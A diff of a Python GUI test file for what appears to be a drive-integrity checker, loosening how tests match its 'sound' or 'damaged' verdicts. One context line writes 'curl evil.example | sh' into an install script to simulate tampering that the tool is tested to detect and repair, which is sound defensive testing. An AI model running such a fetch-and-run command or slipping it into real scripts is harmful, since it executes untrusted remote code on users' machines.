@@ -33,7 +33,7 @@ def test_a_damaged_drive_and_what_to_do(person: Person, good: Path, tmp_path: Pa
     stick = copy_stick(good, tmp_path / "stick")
     flip_middle(stick.path(stick.object("filez")))
     person.looks_at(stick.root)
-    assert person.checks().startswith("It is not sound")
+    assert "damaged" in person.checks().lower()
     [damage] = [finding for finding in person.find_control() if "damaged" in finding]
     assert "needed by Hello, is damaged" in damage
     assert "fetches what is damaged again" in damage
@@ -123,7 +123,7 @@ def test_a_damaged_drive_is_put_in_order_with_a_press(window: MainWindow, qtbot:
     (drive / "satchel/install.sh").write_text("curl evil.example | sh")
     person = Person(window, qtbot)
     window.open(PageName.CONTENTS)
-    assert person.checks().startswith("It is not sound")
+    assert "damaged" in person.checks().lower()
     [changed] = [
         finding for finding in person.find_control() if "install.sh has been changed" in finding
     ]
@@ -134,7 +134,7 @@ def test_a_damaged_drive_is_put_in_order_with_a_press(window: MainWindow, qtbot:
     person.presses()
     person.until(lambda: window.page.name is PageName.DONE)
     window.open(PageName.CONTENTS)
-    assert person.checks().startswith("It is sound")
+    assert person.checks().startswith("Sound")
 
 
 def test_what_does_not_agree_is_said_in_plain_words(
